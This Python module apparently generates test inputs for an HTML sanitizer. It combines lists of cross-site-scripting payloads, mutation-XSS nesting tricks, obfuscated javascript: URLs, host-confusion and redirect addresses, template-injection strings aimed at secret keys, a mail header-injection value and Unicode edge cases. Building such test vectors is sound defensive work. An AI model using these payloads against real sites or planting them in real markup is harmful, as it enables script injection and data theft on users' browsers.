"""Hostile and broken markup, made by combination."""

import itertools

SCRIPTS = [
    "<script>__xss()</script>",
    "<script src=//elsewhere.example/x.js></script>",
    "<img src=x onerror=__xss()>",
    "<img/src=x/onerror=__xss()>",
    "<img src=http://127.0.0.1:9200/_search>",
    '<img src="x" srcset="https://elsewhere.example/a.png 2x">',
    '<img data-file="1" src="https://elsewhere.example/pixel.gif">',
    '<img data-file="1 onerror=__xss()">',
    '<img data-file="1" style="background:url(https://elsewhere.example/)">',
    "<svg onload=__xss()>",
    "<svg><script>__xss()</script></svg>",
    "<iframe src=javascript:__xss()></iframe>",
    "<iframe srcdoc='<script>__xss()</script>'></iframe>",
    "<object data=javascript:__xss()></object>",
    "<embed src=javascript:__xss()>",
    "<form action=javascript:__xss()><button>x</button></form>",
    "<button formaction=javascript:__xss()>x</button>",
    "<input autofocus onfocus=__xss()>",
    "<details open ontoggle=__xss()>x</details>",
    "<video><source onerror=__xss()></video>",
    "<body onload=__xss()>",
    "<marquee onstart=__xss()>x</marquee>",
    "<base href=https://elsewhere.example/>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<meta http-equiv=refresh content=0;url=javascript:__xss()>",
    "<style>@import 'https://elsewhere.example/x.css'</style>",
    "<p style=\"background:url('javascript:__xss()')\">x</p>",
    '<div style="position:fixed;inset:0">x</div>',
    "<a id=config name=config>x</a>",
    "<p id=main class=masthead>x</p>",
    "<div class='embed' data-url='javascript:__xss()'></div>",
    "<div class='embed' data-url='https://www.youtube.com.elsewhere.example/watch?v=aaaaaaaaaaa'>",
    "<div class='embed' data-url='https://t.me@elsewhere.example/paper/1'></div>",
    "<custom-tag onclick=__xss()>x</custom-tag>",
    "<reaction-row>x</reaction-row>",
    "<embed-frame data-frame=https://elsewhere.example/></embed-frame>",
]
# Each begins a place that browsers read by rules of their own.
NESTS = [
    "<math><mtext><table><mglyph><style><!--</style>{}",
    "<math><annotation-xml encoding=text/html>{}</annotation-xml></math>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<svg><desc><noscript>{}</noscript></desc></svg>",
    "<svg></p><style><a title='</style>{}'>",
    "<noscript><p title='</noscript>{}'>",
    "<template>{}</template>",
    "<textarea>{}</textarea>",
    "<title>{}</title>",
    "<style>{}</style>",
    "<xmp>{}</xmp>",
    "<noembed>{}</noembed>",
    "<select><option>{}</select>",
    "<table><tr>{}<td>x",
    "<form><math><mtext></form><form>{}",
    "<!--{}-->",
    "<!--><!-->{}--!>",
    "<![CDATA[{}]]>",
    "<?xml {}?>",
    "<a href='/x'>{}</a>",
    "<p><b>{}</p></b>",
    "<ul><li>{}",
    "<blockquote><cite>{}",
    "<figure><figcaption>{}",
    "<section class=facts><h3>{}</h3>{}",
]
SCHEMES = ["javascript:", "vbscript:", "data:text/html,", "file:///", "blob:", "feed:javascript:"]
DISGUISES = [
    "{}__xss()",
    " {}__xss()",
    "\x01{}__xss()",
    "&#1;{}__xss()",
    "\u200b{}__xss()",
    "{}//%0a__xss()",
]


def disguised(scheme):
    yield from (disguise.format(scheme) for disguise in DISGUISES)
    middle = len(scheme) // 2
    for hidden in ("\t", "\n", "\r", "&Tab;", "&NewLine;", "&#x0A;", "\u202e", "\0", "&#0;"):
        yield f"{scheme[:middle]}{hidden}{scheme[middle:]}__xss()"
    yield scheme.upper() + "__xss()"
    yield "".join(f"&#{ord(letter)};" for letter in scheme) + "__xss()"
    yield "".join(f"&#x{ord(letter):x}" for letter in scheme) + "__xss()"
    yield scheme.replace(":", "&colon;") + "__xss()"


ADDRESSES = [
    *itertools.chain.from_iterable(map(disguised, SCHEMES)),
    "//elsewhere.example/",
    "/\\elsewhere.example/",
    "\\\\elsewhere.example",
    "/\t/elsewhere.example",
    "https:elsewhere.example",
    "https:///elsewhere.example",
    "https://paper.example@elsewhere.example/",
    "https://paper.example:99999/",
    "https://[::1",
    "http://elsewhere.example/'onmouseover=__xss()",
    'http://elsewhere.example/"onmouseover=__xss()',
    "http://elsewhere.example/<script>__xss()</script>",
    "mailto:a@b.example?subject=x\r\nBcc: c@d.example",
    "mailto:<script>__xss()</script>",
    "tel:javascript:__xss()",
    "#top",
    "?q=x",
    "../x",
    "",
]
TEXTS = [
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${__xss()}",
    "<%= 7*7 %>",
    "]]><script>__xss()</script>",
    "</script><script>__xss()</script>",
    "a\0b\x08c\x0bd\x1be\x7ff\x85g",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200e\u200f",
    "ze\u200bro\u200c\ufeff\u2060wi\u00addth",
    "a\u200db, 👩\u200d💻, \u200d",
    "\ud800 lone \udfff",
    "\ufffe\uffff\U0001ffff",
    "\ue000\U000f0000",
    "<\u0338p>x</p>",
    "<p>x\u0338</p>",
    "e\u0301 <b>e</b>\u0301",
    "&#xD800;&#0;&#x202E;&#x110000;&nosuch;&amp;lt;script&gt;",
    "&lt;script&gt;__xss()&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    "<<b>>x<</b>>",
    "<p <p <p>x",
    "</p></p></br></div></table>",
    "<b><i>x</b>y</i>",
    "<a href=/x>1<a href=/y>2</a></a>",
    "<h2><p>x</p><h3>y</h3></h2>",
    "<p>x<table><tr><td>y</table>z",
    "<ul>x<ul><li>y</ul><p>z</ul>",
    "<ol start=0><li><ol><li><ol start=99999><li>x</ol></ol></ol>",
    "<table><caption>c</caption><tr><td rowspan=9 colspan=99>x<th>y<tr><tr><td>z</table>",
    "<table><td>" * 20,
    "<blockquote><blockquote class=pull><cite>a</cite><p>x</p><cite>b</cite>",
    "<section class=facts><h2>a</h2><section class=facts><h2>b</h2><p>c</section></section>",
    "<figure><img data-file=1><img data-file=2><img data-file=1><table><tr><td>x</table></figure>",
    "<figure class=gallery><figcaption>no pictures</figcaption></figure>",
    "<img data-file=0><img data-file=007><img data-file=99999999999999999999><img data-file=-1>",
    "<img data-file=९>",
    "<p>· x</p><p>•\u00a0· y</p><ul><li>· z</ul>",
    "<p>\u00a0</p><p><br></p><p> <b> </b> </p><hr><hr>",
    "<p>a<br><br><br>b<br></p>",
    "<p><b> a </b> <i> b</i>  c</p>",
    "x" * 3000,
    "<b>" * 300 + "x",
]


def all_vectors():
    yield from SCRIPTS
    for nest, script in itertools.product(NESTS, SCRIPTS):
        yield nest.replace("{}", script)
    for address in ADDRESSES:
        yield f'<a href="{address}">x</a>'
        yield f"<p>a<A HREF='{address}' target=_top ping=x><b>x</b></A>b"
        yield f'<div class="embed" data-url="{address}"></div>'
        yield f'<iframe src="{address}"></iframe>'
    yield from TEXTS
    for text, nest in itertools.product(TEXTS, NESTS[13:]):
        yield nest.replace("{}", text)
